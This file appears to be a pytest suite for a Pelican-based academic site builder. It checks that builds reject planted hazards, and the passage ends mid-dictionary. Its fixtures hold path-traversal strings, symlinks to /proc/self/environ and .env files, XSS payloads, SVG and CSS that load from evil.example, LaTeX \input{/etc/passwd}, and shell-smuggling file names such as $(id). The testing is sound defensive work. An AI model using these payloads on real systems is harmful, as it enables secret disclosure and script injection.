"""A site under attack: hazards with secrets around them, and texts that look like code.

Run as a program, with a folder, this builds sites of one hazard each; it reads their names
from standard input.
"""

import base64
import binascii
import gzip
import io
import json
import multiprocessing
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import traceback
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import NamedTuple
from urllib.parse import unquote
from xml.etree import ElementTree

import bibtexparser
import feedparser
import pytest
import rispy
import yaml
from bs4 import BeautifulSoup
from conftest import (
    HOME,
    LOCAL,
    NEWS,
    ONE_RELOAD,
    PAPER,
    ROOT,
    SETTINGS,
    Site,
    build,
    run_papers,
    share,
    until,
    words,
    write,
)
from papers.pages.markdown_reader import PapersReader
from pelican.settings import read_settings
from PIL import Image, PngImagePlugin
from pybtex.database import parse_string
from sample import SETTINGS as SAMPLE
from sample import content as sample_content
from sample import picture
from test_browser import Visit

# In no word of ours; what is drafted may be seen in the preview alone.
SECRET, DRAFTED = "Zq7vPlantedKx", "Zq7vDraftedKx"
# A picture of this colour alone is the secret, too: its pixels outlive what is written in it.
COLOUR = (10, 240, 195)
CONFS = ("pelicanconf.py", "publishconf.py")
POSIX = pytest.mark.skipif(os.name == "nt", reason="Windows has no fork, no /proc and no links")
# Seconds of CPU for a small site, which needs a third of one; a busy machine may take so many
# times as long.
PATIENCE, BUSY = 10, 6
XMP = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    'xmlns:exif="http://ns.adobe.com/exif/1.0/"><exif:GPSLatitude>48,8.5N</exif:GPSLatitude>'
    f"<exif:Owner>{SECRET}</exif:Owner></rdf:Description></rdf:RDF></x:xmpmeta>"
)


class Link(NamedTuple):
    """A symbolic link instead of a file, or a pipe if the target is None."""

    target: str | None


class Hazard(NamedTuple):
    """Files of content/, and the message with which a build refuses them.

    `message` is None if the site is built and the attack has no effect, and "" if either is fine.
    `alone` files cannot be combined with other hazards. `public` ones are refused in the published
    site only, not in the preview.
    """

    files: dict[str, str | bytes | Link]
    message: str | None = ""
    alone: bool = False
    public: bool = False


# --- What is planted ----------------------------------------------------------


def secret_picture(kind: str = "PNG") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (400, 300), COLOUR).save(out, kind)
    return out.getvalue()


def secret_files() -> dict[str, str | bytes]:
    """Return the files with secrets, for each folder around the content."""
    paper = f"Title: {SECRET}\nAuthors: Ada Lovelace\nDate: 2026\n\n{SECRET}\n"
    return {
        ".env": f"TOKEN={SECRET}\n",
        ".git/config": f"[remote]\nurl = https://x:{SECRET}@host.example/\n",
        "secret.txt": f"{SECRET}\n",
        "secret.md": paper,
        "secret.bib": f"@misc{{s, title={{{SECRET}}}, author={{A B}}, year=2026}}\n",
        "secret.yml": f"Ada Lovelace:\n  aliases: [{SECRET}]\n",
        "secret.csv": f"a,{SECRET}\n",
        "secret.html": f"<html><head><title>{SECRET}</title></head><body>{SECRET}</body></html>",
        "secret.pdf": f"%PDF-1.4 {SECRET}",
        "secret.png": secret_picture(),
        "secret.svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 3"><rect width="4" '
        f'height="3" fill="#0af0c3"/><desc>{SECRET}</desc></svg>',
        "private/p.md": paper,
        "private/a.png": secret_picture(),
    }


def small_site_files() -> dict[str, str | bytes]:
    """Return a small site with files that editors and tools leave behind."""
    leftovers = (
        ".env images/.env images/.hidden/secret.txt images/secret.png.bak papers/x.md~ "
        "papers/x.md.bak papers/.#x.md papers/#x.md# papers/x.swp papers/.x.md.swp extra/.htpasswd "
        "extra/dump.sql.bak extra/login.php~ news/.draft.md pages/__pycache__/x.md people.yml~ "
        "references.bib.orig .git/config images/.git/config images/.DS_Store extra/x.css.tmp"
    ).split()
    draft = f"Title: {DRAFTED}\nDate: 2026\nStatus: draft\nTags: {DRAFTED}\n"
    files = {"home.md": HOME, "papers/p.md": PAPER, "news/n.md": NEWS, "images/p.png": portrait()}
    files |= dict.fromkeys(leftovers, f"{SECRET}\n")
    files["images/.hidden/secret.png"] = secret_picture()
    files["papers/draft.md"] = f"{draft}Authors: Ada Lovelace\n\n{DRAFTED}\n"
    files["news/draft.md"] = files["pages/draft.md"] = f"{draft}\n{DRAFTED}\n"
    files["papers/drafts.bib"] = (
        f"@misc{{dd, title={{{DRAFTED}}}, author={{A B}}, year=2026, status={{draft}}}}"
    )
    return files


def portrait() -> bytes:
    return picture("PNG", 90, 60)


def plant(base: Path, files: dict[str, str | bytes | Link]) -> Path:
    """Make a project with secrets in it and around it, and return its folder."""
    project = base / "above" / "project"
    for folder in (base, base / "above", project):
        write(folder, secret_files())
    settings = SETTINGS | {
        "THEME": str(ROOT / "theme"),
        "PLUGIN_PATHS": [str(ROOT / "plugins")],
        "PASSWORD": SECRET,
    }
    assignments = "".join(f"{name} = {value!r}\n" for name, value in settings.items())
    for conf in CONFS:
        text = (ROOT / conf).read_text(encoding="utf-8")
        text = text.replace("Path(__file__).resolve().with_name", f"Path({str(ROOT)!r}).joinpath")
        (project / conf).write_text(text + assignments * (conf == CONFS[0]), encoding="utf-8")
    content = write(project / "content", small_site_files())
    for name, data in files.items():
        path = content / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if not isinstance(data, Link):
            data = data if isinstance(data, bytes) else data.replace("@BASE@", str(base)).encode()
            path.write_bytes(data)
            continue
        if path.is_dir():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        if data.target is None:
            os.mkfifo(path)
        else:
            path.symlink_to(data.target.replace("@BASE@", str(base)))
    return project


# --- What is looked for -------------------------------------------------------


def tree(folder: Path, *excluded: Path) -> dict[str, str | bytes | None]:
    """Return the contents of a folder, except those of some folders in it."""
    entries = {}
    for parent, folders, names in os.walk(folder):
        folders[:] = [name for name in folders if Path(parent, name) not in excluded]
        for name in (*folders, *names):
            path = Path(parent, name)
            data = os.readlink(path) if path.is_symlink() else None
            data = path.read_bytes() if data is None and path.is_file() else data
            entries[path.relative_to(folder).as_posix()] = data
    return entries


def forms(word: str) -> set[bytes]:
    """Return a word in common encodings, in lower case."""
    raw = word.encode()
    encodings = {raw, word.encode("utf-16-le"), raw[::-1], binascii.hexlify(raw)}
    # Base64 depends on the position modulo three, and the ends on neighbouring bytes.
    encodings |= {base64.b64encode(b"\0" * n + raw)[n + 1 : -4] for n in range(3)}
    return {form.lower() for form in encodings}


def holds(data: bytes, word: str) -> bool:
    low = data.lower()
    return any(form in low for form in forms(word))


def leaks(folder: Path, secrets: list[str]) -> list[str]:
    """Return where a folder's files contain a secret: in names, texts, pictures, indexes."""
    places = []
    for path in sorted(folder.rglob("*")):
        name = path.relative_to(folder).as_posix()
        if path.is_symlink():
            places.append(f"{name} is a link")
        elif any(holds(name.encode("utf-8", "surrogateescape"), word) for word in secrets):
            places.append(f"{name} is named so")
        elif path.is_file():
            data = path.read_bytes()
            data = gzip.decompress(data) if data.startswith(b"\x1f\x8b") else data
            words, secret = inspect_picture(data)
            if secret or any(holds(data + words, word) for word in secrets):
                places.append(f"{name}{secret and ' shows '}{secret}")
    return places


def inspect_picture(data: bytes) -> tuple[bytes, str]:
    """Return a picture's metadata, and what it shows that it must not."""
    try:
        with Image.open(io.BytesIO(data)) as image:
            exif = image.getexif()
            metadata = repr([image.info, dict(exif)]).encode()
            if exif.get_ifd(0x8825):
                return metadata, "a place"
            colours = image.convert("RGB").resize((16, 16), Image.Resampling.NEAREST).getcolors(256)
    except (OSError, SyntaxError, ValueError):
        return b"", ""
    shows_secret = any(
        max(abs(a - b) for a, b in zip(colour, COLOUR, strict=True)) < 12 for _, colour in colours
    )
    return metadata, "the secret picture" if shows_secret else ""


# --- Hazards --------------------------------------------------------------------

OUT = "is not a file in content/ (add it)"
LEADS_OUT = "points outside content/ (copy the file itself there)"


def news(body: str, headers: str = "") -> dict[str, str]:
    return {"news/h.md": f"Title: H\nDate: 2026-03\n{headers}\n{body}\n"}


def paper(headers: str, body: str = "An abstract.") -> dict[str, str]:
    return {"papers/h.md": PAPER.partition("\n\n")[0] + f"\n{headers}\n\n{body}\n"}


def shown(name: str, data: bytes) -> dict[str, str | bytes]:
    """Return a picture, and a page that shows it."""
    page = f"Title: H\n\n![A dog on the grass]({{static}}/images/{name})\n"
    return {f"images/{name}": data, "pages/h.md": page}


def figure(name: str, data: bytes) -> dict[str, str | bytes]:
    """Return a picture, and a paper whose figure it is."""
    return {
        f"images/{name}": data,
        **paper(f"Image: images/{name}\nImage_alt: A dog on the grass."),
    }


def addresses() -> Iterator[tuple[str, Hazard]]:
    """Yield links that point outside content/, in every spelling."""
    targets = {
        "../../secret.png": OUT,
        "/../secret.png": OUT,
        "/./../secret.png": OUT,
        "/images/../../secret.png": OUT,
        "../" * 12 + "proc/self/environ": OUT,
        "/proc/self/environ": OUT,
        "@BASE@/secret.png": OUT,
        "//@BASE@/secret.png": OUT,
        "file:///proc/self/environ": OUT,
        "~/secret.png": OUT,
        "%2e%2e/%2e%2e/secret.png": OUT,
        "%252e%252e/%252e%252e/secret.png": OUT,
        "..%2f..%2fsecret.png": OUT,
        "&#46;&#46;/&#x2e;&#x2e;/secret.png": OUT,
        "&period;&period;&sol;&period;&period;&sol;secret.png": OUT,
        r"..\..\secret.png": OUT,
        "../../secret.png%00.png": OUT,
        "../../secret.png&#0;.png": OUT,
        "．．/．．/secret.png": OUT,
        "..／..／secret.png": OUT,
        "..∕..∕secret.png": OUT,
        "‥/‥/secret.png": OUT,
        "../../secret.png?x=1#y": OUT,
        "..\n/../secret.png": "",
        "../.env": OUT,
        "../.ENV": OUT,
        "/images/.hidden/secret.png": OUT,
        "/images/secret.png.bak": OUT,
        "/papers/x.md~": OUT,
        "/papers/%23x.md%23": OUT,
        "/papers/x.swp": OUT,
        "/.git/config": OUT,
        "/.g\u200dit/config": OUT,
        "../../pelicanconf.py": OUT,
        "/../": OUT,
        "/papers/draft.md": "cannot be published as a file (choose another)",
        "/papers/drafts.bib": "cannot be published as a file (choose another)",
    }
    for n, (target, message) in enumerate(targets.items()):
        for word in ("attach", "static")[: 1 + (n % 3 == 0)]:
            yield f"{word} {target}", Hazard(news(f'<a href="{{{word}}}{target}">x</a>'), message)
    for target in ("../../secret.md", "/.env", "%2e%2e/%2e%2e/secret.md"):
        body = f"[x]({{filename}}{target})"
        yield f"filename {target}", Hazard(news(body), "is not a file in content/")
    yield "filename draft", Hazard(news("[x]({filename}/papers/draft.md)"))
    up = "{attach}../../secret.png"
    yield "bar", Hazard(news('<a href="|attach|../../secret.png">x</a>'), OUT)
    yield "markdown", Hazard(news(f"![A dog on the grass]({up})"), OUT)
    for markup in (
        f'<img src="{up}" alt="A dog on the grass">', f'<video poster="{up}"></video>',
        f'<object data="{up}"></object>', f'<blockquote cite="{up}">x</blockquote>',
        f'<button formaction="{up}">x</button>', f'<form action="{up}"></form>',
        f"<a\nhref\n=\n'{up}'>x</a>", f'<!-- <a href="{up}"> -->', f'<meta content="{up}">',
        f'<script src="{up}"></script>', f'*x*{{: src="{up}" }}',
    ):  # fmt: skip
        yield f"element {markup[:9]!r}", Hazard(news(markup), "")
    yield "page", Hazard({"pages/h.md": f'Title: H\n\n<a href="{up}">x</a>\n'}, OUT)
    yield "paper", Hazard(paper("", f'<a href="{up}">x</a>'), OUT)
    yield "home", Hazard({"home.md": HOME + '<a href="{attach}../secret.png">x</a>\n'}, OUT, True)
    yield "summary", Hazard(news("x", f"Summary: [x]({up})\n"), "summary: cannot link within")
    yield "tldr", Hazard(paper(f'Tldr: <a href="{up}">x</a>'), "tldr: cannot link within")
    role = HOME.replace("Analyst", '<a href="{attach}../secret.png">x</a>')
    yield "role", Hazard({"home.md": role}, None, True)


def links() -> Iterator[tuple[str, Hazard]]:
    """Yield symbolic links: to files, folders, each other, and what has no end."""
    for target in (
        "@BASE@/secret.png", "../../secret.png", "/proc/self/environ", "/dev/zero", "nowhere",
        "user@host.example.123:4", "h.png", "../.env", ".hidden/secret.png", "secret.png.bak",
        "../papers/draft.md", "../papers/drafts.bib",
    ):  # fmt: skip
        files = {"images/h.png": Link(target)}
        yield f"link images {target}", Hazard(files, "content/images/h.png")
    for target in ("../../secret.png", "../.env", "nowhere", "/dev/zero", "../news/draft.md"):
        yield f"link extra {target}", Hazard({"extra/h.txt": Link(target)}, "content/extra/h.txt")
    for folder in ("papers", "news", "pages"):
        # What is read of them must not be told either.
        for target in ("../../secret.md", "../../secret.txt", "/proc/self/environ", "/dev/zero"):
            hazard = Hazard({f"{folder}/h.md": Link(target)}, LEADS_OUT, target == "/dev/zero")
            yield f"link {folder} {target}", hazard
        yield f"pipe {folder}", Hazard({f"{folder}/h.md": Link(None)}, LEADS_OUT, True)
    for name, target in {
        "papers/h.bib": "../../secret.bib", "news/h.rst": "../../secret.txt",
        "pages/h.html": "../../secret.html", "images/portrait.png": "../../secret.png",
        "extra/favicon.svg": "../../secret.svg", "papers/l.md": "l.md",
    }.items():  # fmt: skip
        yield f"link {name}", Hazard({name: Link(target)}, f"content/{name}")
    loop = {f"images/{name}.png": Link(f"{target}.png") for name, target in ("ab", "bc", "ca")}
    yield "link loop", Hazard(loop, "content/images/a.png")
    for name, target in {
        "home.md": "../secret.md", "people.yml": "../secret.yml", "references.bib": "../secret.bib",
    }.items():  # fmt: skip
        files = {name: Link(target), **news("[@s]" * (name == "references.bib"))}
        yield f"link {name}", Hazard(files, f"content/{name}", True)
        chain = {name: Link("images/chain.txt"), "images/chain.txt": Link(f"../{target}")}
        yield f"chain {name}", Hazard(files | chain, f"content/{name}", True)
    environ = {"people.yml": Link("/proc/self/environ")}
    yield "environ people.yml", Hazard(environ, "content/people.yml", True)
    for name in ("people.yml", "references.bib"):
        # Somebody meant it to be read.
        yield f"dead {name}", Hazard({name: Link("nowhere")}, f"content/{name}", True)
    files = figure("f.png", b"") | {"images/f.png": Link("../../secret.png")}
    yield "link figure", Hazard(files, 'image: "images/f.png" does not exist')
    files = paper("Pdf: f.pdf") | {"papers/f.pdf": Link("../../secret.pdf")}
    yield "link pdf", Hazard(files, 'pdf: "f.pdf" is not an address or a file')
    for folder in ("images", "extra", "papers", "news", "pages"):
        for target in ("../../private", "@BASE@", "..", ".", "/proc/self"):
            files = {f"{folder}/up": Link(target)}
            hazard = Hazard(files, "" if target == "." else f"content/{folder}/up", True)
            yield f"folder {folder}/up {target}", hazard
        files = {folder: Link("../private")}
        # An empty folder is not a mistake of its own.
        yield f"folder {folder}", Hazard(files, "", True)
    inside = {"images/in.png": portrait(), "images/in2.png": Link("in.png")}
    yield "link inside", Hazard(inside, None)


def headers() -> Iterator[tuple[str, Hazard]]:
    """Yield headers that are, or become, addresses, paths, names of templates or attributes."""
    for save_as in (
        "../h.html", "@BASE@/h.html", "a/../../h.html", r"..\h.html", "%2e%2e/h.html", "C:/h.html",
        ".htaccess", ".git/config", "a/.env", "a/", "{slug}.html", "{0.__class__}.html", "a" * 300,
        "h.\u200dhtml",
    ):  # fmt: skip
        text = f"Url: q/\nSave_as: {save_as}\n"
        yield f"save_as {save_as[:9]}", Hazard(news("x", text), "save_as: ")
    for save_as in (
        "index.html", "INDEX.HTML", "pagefind/pagefind.js", "papers.bib", "theme/js/search.js",
        "theme/css/style.css", "Theme/js/search.js", "papers/p/p.bib",
    ):  # fmt: skip
        text = f"Url: q/\nSave_as: {save_as}\n"
        yield f"save_as {save_as}", Hazard(news("x", text), "has ")
    for save_as in ("build.json", "robots.txt", "papers/p/index.md"):
        text = f"Url: q/\nSave_as: {save_as}\n"
        yield f"save_as {save_as}", Hazard(news("x", text), "has ", public=True)
    for url in (
        "javascript:alert(1)", "//evil.example/", "https://evil.example/", "../../x", "/x", "?x",
        'a"onmouseover="x', "a b", r"a\b", "data:text/html,x", "{slug}/",
    ):  # fmt: skip
        yield f"url {url}", Hazard(news("x", f"Save_as: q/index.html\nUrl: {url}\n"), "url: ")
    for slug in ("../h", "..", ".", ".htaccess", "a/b", r"a\b", "%2e%2e", "h\u200d", "．．"):
        yield f"slug {slug}", Hazard(news("x", f"Slug: {slug}\n"), "slug: ")
    for name in (
        "../../secret", "/etc/passwd", "@BASE@/secret", "home", "paper", "base", "topic",
        "redirect", "search", "_policy", "_parts", "{{ 7*7 }}",
    ):  # fmt: skip
        text = f"Title: H\nTemplate: {name}\n\nx\n"
        yield f"template {name}", Hazard({"pages/h.md": text}, 'template: "')
    for lang in ("../h", "en/../../h", 'zh" onload="alert(1)', "{slug}"):
        yield f"lang {lang}", Hazard(news("x", f"Lang: {lang}\n"), "lang: ")
    for tag in ("../h", "/etc", ".git", "．．／h", "a/../../b", "‥∕h", "{0}", r"a\b"):
        yield f"tag {tag}", Hazard(news("x", f"Tags: {tag}\n"), None)
    for name in ("../h", "..", "{0}"):
        yield f"category {name}", Hazard(news("x", f"Category: {name}\n"), None)
    for alias in (
        "../h", "/../h", "a/../../h", "a/..", ".htaccess", "a/.git/x", "//evil.example", r"C:\h",
        "%2e%2e/h", "javascript:alert(1)", "a|b",
    ):  # fmt: skip
        text = f"Aliases: {alias}\n"
        yield f"alias {alias}", Hazard(news("x", text), "is not a path of this site (write /old/")
    for alias in (
        "index.html",
        "papers/p",
        "papers/p/p.bib",
        "pagefind/x",
        "theme/css/style.css",
        "theme/js/x.html",
    ):
        yield f"alias {alias}", Hazard(news("x", f"Aliases: {alias}\n"), "has ")
    for alias in ("robots.txt", "papers/p/index.md"):
        yield f"alias {alias}", Hazard(news("x", f"Aliases: {alias}\n"), "has ", public=True)
    message = '"draft" is not a paper of the site'
    yield "papers: draft", Hazard(news("x", "Papers: draft\n"), message, public=True)
    message = "[@draft] is not a paper of the site"
    yield "cite draft", Hazard(news("[@draft; @dd]"), message, public=True)
    yield "date 0000", Hazard(news("x", "Modified: 0000\n"), "modified: ")
    yield "date 9999", Hazard(news("x", "Modified: 9999-12-31\nHidden_until: 9999-12-31\n"), None)


def entries() -> Iterator[tuple[str, Hazard]]:
    """Yield fields of a .bib that name files and addresses."""
    made = "title={T}, author={Ada Lovelace}, year=2026"
    values = (
        "../../secret.png", "/proc/self/environ", "@BASE@/secret.pdf", "%2e%2e/%2e%2e/secret.pdf",
        "file:///etc/passwd", "../.env", "draft.md", "drafts.bib", r"\url{../../secret.png}",
        "{../../secret.png}", "../images/.hidden/secret.png", "//evil.example/x.png",
    )  # fmt: skip
    for field in "pdf preview url slides poster code video html links howpublished eprint".split():
        # Those that a build refuses hide what becomes of the others.
        for n, value in enumerate(values):
            text = f"@misc{{h, {made}, {field}={{{value}}}}}\n"
            if field == "pdf" or n % 6 == len(field) % 6:
                yield f"bib {field} {value}", Hazard({"papers/h.bib": text})
        for value in ("javascript:alert(1)", "java\nscript:alert(1)", "data:text/html,x"):
            if field in ("pdf", "video", "html"):
                text = f"@misc{{h, {made}, {field}={{{value}}}}}\n"
                message = "is not a web address" if "\n" not in value else ""
                yield f"bib {field} {value[:9]}", Hazard({"papers/h.bib": text}, message)
    for field in ("slug", "save_as", "template", "file", "key", "bibtex"):
        text = f"@misc{{h, {made}, {field}={{../../x}}}}\n"
        yield f"bib {field}", Hazard({"papers/h.bib": text}, None)
    text = f"@misc{{h, {made}, aliases={{../../x}}}}\n"
    yield "bib aliases", Hazard({"papers/h.bib": text}, "is not a path of this site")
    for key in ("../../x", "/etc", "a/b", ".git", "．．／x", "-rf", "<b>", "{0}"):
        text = f"@misc{{{key}, {made}}}\n"
        # Its page has the same address as the first one's.
        message, alone = None if "{" not in key else "", key == "．．／x"
        yield f"bib key {key}", Hazard({"papers/h.bib": text}, message, alone)
    text = f"@misc{{h, {made}, crossref={{../../secret}}}}\n@misc{{i, {made}, crossref={{i}}}}\n"
    yield "bib crossref", Hazard({"papers/h.bib": text}, None)
    text = (
        '@string{a = "x" # a}\n@preamble{"\\input{/etc/passwd}"}\n'
        "@misc{h, title=a # {\\input{@BASE@/secret.txt}}, author={A B}, year=2026}\n"
    )
    yield "bib input", Hazard({"papers/h.bib": text}, None)
    entry = "Bibtex: @misc{h, title={T}, note={\\input{/etc/passwd}}}"
    yield "bibtex", Hazard(paper(entry), None)
    refs = f"@misc{{r, {made}, pdf={{../secret.pdf}}, preview={{../secret.png}}}}\n"
    yield "references.bib", Hazard({"references.bib": refs} | news("[@r]"), None, True)


def markup() -> Iterator[tuple[str, Hazard]]:
    """Yield HTML that a browser reads otherwise than a pattern, in news and in a paper."""
    meta = '<meta http-equiv=refresh content="0;url=https://evil.example">'
    head = "<meta> belongs in the head of a page"
    for n, (text, message) in enumerate({
        f"<code>{meta}</code>": head, f"<pre>{meta}</pre>": head, f"<!-->{meta}-->": head,
        f"<svg><desc>{meta}</desc></svg>": head, f"<table>{meta}</table>": head,
        f"<b title='\">'>x</b>{meta}": head, f'<b title="{"x" * 5000}">x</b>{meta}': head,
        f"<template shadowrootmode=open>{meta}</template>": "<template> is not allowed in text",
        f'<noscript><b title="</noscript>{meta}">x</b></noscript>': "<noscript> is not allowed in text",
        "</article></main><main><article>": "its HTML closes an element of the page",
        '<a href="/" ping="https://evil.example">x</a>': "another host",
        '<b style="background:u\\72l(//evil.example)">x</b>': "another host",
    }.items()):  # fmt: skip
        hazard = news(text) if n % 2 else paper("", text)
        yield f"markup {n}", Hazard(hazard, message)


def documents() -> Iterator[tuple[str, Hazard]]:
    """Yield files that other readers read, reStructuredText and HTML, and what Markdown may take."""
    unread = "Pelican cannot read it"
    for text, message in {
        ".. include:: ../../secret.txt": unread,
        ".. include:: /proc/self/environ\n   :literal:": unread,
        ".. include:: @BASE@/secret.txt\n   :code: text": unread,
        ".. raw:: html\n   :file: ../../secret.html": unread,
        ".. raw:: html\n   :url: file:///proc/self/environ": unread,
        ".. csv-table:: x\n   :file: ../../secret.csv": unread,
        ".. csv-table:: x\n   :url: file:///proc/self/environ": unread,
        ".. figure:: {attach}../../secret.png\n\n   x": OUT,
        "`x <{attach}../../secret.png>`_": OUT,
        ".. image:: ../../secret.png\n   :alt: A dog": "",
        "`x <javascript:alert(1)>`_": '"javascript:alert(1)" is not a web address',
    }.items():
        body = f"H\n=\n\n:date: 2026-03\n\n{text}\n"
        yield f"rst {text[:14]}{len(text)}", Hazard({"news/h.rst": body}, message)
    for name, value in {
        "save_as": "../../h.html", "SAVE_AS": "@BASE@/h.html", "slug": "../../h", "folder": "../..",
        "url": "javascript:alert(1)", "template": "../h", "Template": "topic", "status": "x",
        "override_save_as": "../h", "override_url": "javascript:alert(1)", "header": "x",
        "paper": "x", "draft_label": "x", "references": "x", "when": "x", "_content": "x",
        "_context": "x", "settings": "x", "source_path": "/proc/self/environ", "topics": "x",
        "get_content": "x",
        "default_template": "x", "is_valid": "x", "content": "x", "timezone": "../../x",
        "date_format": "%", "path": "../../h", "lang": "../h", "tags": "../h",
        "hidden_until": "9999", "aliases": "../h",
        "summary": "{attach}../../secret.png",
    }.items():  # fmt: skip
        meta = f'<meta name="{name}" content="{value}">'
        page = f"<html><head><title>H</title>{meta}</head><body>x</body></html>"
        yield f"html {name}", Hazard({"pages/h.html": page})
        if name in ("save_as", "template", "header", "when", "topics"):
            body = f"H\n=\n\n:date: 2026-03\n:{name}: {value}\n\nx\n"
            yield f"rst {name}", Hazard({"news/h.rst": body})
    page = '<head><title>H</title></head><body><a href="{attach}../../secret.png">x</a></body>'
    yield "html attach", Hazard({"pages/h.html": page}, OUT)
    for n, text in enumerate((
        "{!../../secret.txt!}", '--8<-- "../../secret.txt"', '{% include "../../secret.txt" %}',
        "!include ../../secret.txt", "{{ SECRET_KEY }} {{ 7*7 }}", "[[../../secret.txt]]",
        "::: include ../../secret.txt", "<<(../../secret.txt)", "@import ../../secret.txt",
    )):  # fmt: skip
        yield f"extension {n}", Hazard(news(text))
    for option in (
        "cssfile=@BASE@/h.css full=true", "tagsfile=@BASE@/secret.txt", "pygments_style=../../secret",
        "pygments_formatter=img", "outencoding=utf-8", "linenostart=x linenums=true", "lang=x",
        "src=x", "self=x", "encoding=x", "filters=x", "style=x", "tabsize=x",
    ):  # fmt: skip
        body = f"``` {{ .python {option} }}\nprint(1)\n```"
        yield f"code {option[:12]}", Hazard(news(body))


def names() -> Iterator[tuple[str, Hazard]]:
    """Yield names that another file system, a shell or a page takes for something else."""
    for name in (
        "<img src=x onerror=alert(1)>.png", 'a"onload="x.png', "a'b.png", "a\nb.png",
        "a\n::error::h.png", "a\x1b[31mh.png", "a&lt;b.png", "a b.png", "-rf.png", "~.png",
        "{slug}.png", "$(id).png", "`id`.png", "a;id.png", "|a.png", "a*.png", "con.png", " a.png",
        "\u202egnp.png", "a\u2028b.png", "h" * 250 + ".png", "\udcff.png",
    ):  # fmt: skip
        files = {f"images/{name}": portrait()}
        if not set(name) & {"\n", "\x1b", "\udcff"}:
            files |= paper(f"Image: images/{name}\nImage_alt: A dog.")
        # Who reads it for an address warns of what is not a letter, and a warning is an error here.
        yield f"name {name[:12]!r}", Hazard(files, "", name == "\udcff.png")
    files = paper("Image: images/photo\nImage_alt: A dog.") | {"images/photo": portrait()}
    yield "no end", Hazard(files, 'image: "images/photo" is not an image')
    # Of macOS and Windows one and the same, or the same without signs that nobody sees.
    private = "is a hidden file or a backup"
    for name in ("\u200d.env", "\u200d.git/config", "x.BAK", "x.Old", "x.md.save", "Thumbs.db",
                 "desktop.ini"):  # fmt: skip
        for folder in ("images", "extra"):
            yield f"private {folder}/{name}", Hazard({f"{folder}/{name}": SECRET}, private)
    taken = "has the same address as"
    hazard = Hazard({"extra/papers/p/index.md": "x"}, taken, public=True)
    yield "taken index.md", hazard
    for first, second in (
        ("images/\u00e9.png", "images/e\u0301.png"), ("images/A.png", "images/a.png"),
        ("images/a\u200d.png", "images/a.png"), ("images/\ufb01.png", "images/fi.png"),
        ("images/\u212a.png", "images/k.png"), ("pages/A.md", "pages/a.md"),
    ):  # fmt: skip
        text = "Title: T\n\nx\n" if first.endswith("md") else portrait()
        yield f"twins {first!a}", Hazard({first: text, second: text}, taken)
    for name in ("INDEX.HTML", "index\u200d.html", "Pagefind/pagefind.js"):
        yield f"taken {name!a}", Hazard({f"extra/{name}": "x"}, taken)
    for name in ("theme/js/h.js", "Theme/css/style.css", "the\u200dme/js/search.js"):
        hazard = Hazard({f"extra/{name}": "x"}, "has the same address as a file of the theme")
        yield f"theme {name!a}", hazard


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 40 30">{}</svg>'
)
RUNS, SHOWS = "(export it again without it)", "(embed it)"
NO_SVG = "is not an SVG file below 16 MB"
LAUGHS = "".join(f'<!ENTITY {c} "{f"&{chr(ord(c) - 1)};" * 10}">' for c in "bcdefghij")
DRAWINGS = {
    "<script>alert(1)</script>": RUNS,
    '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>': RUNS,
    "<foreignObject><h:script>alert(1)</h:script></foreignObject>": RUNS,
    '<rect onload="alert(1)"/>': RUNS,
    '<rect ONLOAD="alert(1)"/>': RUNS,
    '<a xlink:href="javascript:alert(1)"/>': RUNS,
    '<a href="java&#9;script:alert(1)"/>': RUNS,
    '<a href="data:text/html,x"/>': RUNS,
    '<a href="#"><set attributeName="href" to="javascript:alert(1)"/></a>': RUNS,
    '<a><animate attributeName="href" values="#;javascript:alert(1)"/></a>': RUNS,
    '<foreignObject><h:iframe src="x"/></foreignObject>': RUNS,
    '<foreignObject><h:object data="x"/></foreignObject>': RUNS,
    '<foreignObject><h:form action="javascript:alert(1)"><h:button/></h:form></foreignObject>': RUNS,
    '<foreignObject><h:button formaction="javascript:alert(1)">x</h:button></foreignObject>': RUNS,
    '<foreignObject><h:meta http-equiv="refresh" content="0;url=//evil.example"/></foreignObject>': RUNS,
    '<h:meta http-equiv="refresh" content="0;url=//evil.example"/>': RUNS,
    '<metadata><h:base href="//evil.example"/></metadata>': SHOWS,
    '<foreignObject><h:img src="https://evil.example/x.png"/></foreignObject>': SHOWS,
    '<foreignObject><h:img srcset="https://evil.example/x.png 1x"/></foreignObject>': SHOWS,
    '<foreignObject><h:link rel="stylesheet" href="x.css"/></foreignObject>': SHOWS,
    '<image href="https://evil.example/x.png"/>': SHOWS,
    '<image href="@BASE@/secret.png" width="40" height="30"/>': SHOWS,
    '<image href="../../secret.png" width="40" height="30"/>': SHOWS,
    '<image href="file:///proc/self/environ"/>': SHOWS,
    '<filter id="f"><feImage href="@BASE@/secret.png"/></filter><rect filter="url(#f)"/>': SHOWS,
    '<image href="#a"><set attributeName="href" to="//evil.example/x.png"/></image>': SHOWS,
    '<image href="#a"><animate attributeName="href" values="#a;https://evil.example/x"/></image>': SHOWS,
    '<use href="#a"><animate attributeName="xlink:href" from="#a" to="x.svg#a"/></use>': SHOWS,
    '<style>a{x:"/*"}b{fill:url(//evil.example/x)}c{x:"*/"}</style>': SHOWS,
    '<use href="https://evil.example/x.svg#a"/>': SHOWS,
    '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>': RUNS,
    '<style>@import "https://evil.example/x.css";</style>': SHOWS,
    "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>": SHOWS,
    '<style><g/>@import "https://evil.example/x.css";</style>': SHOWS,
    '<style>@import/**/"https://evil.example/x.css";</style>': SHOWS,
    r'<style>@im\70ort "https://evil.example/x.css";</style>': SHOWS,
    r"<style>g{fill:u\72l(https://evil.example/x)}</style>": SHOWS,
    '<style>g{background:image-set("https://evil.example/x" 1x)}</style>': SHOWS,
    '<rect style="cursor:url(https://evil.example/x)"/>': SHOWS,
    '<rect cursor="url(https://evil.example/x), auto"/>': SHOWS,
    '<rect filter="url(https://evil.example/x.svg#a)"/>': SHOWS,
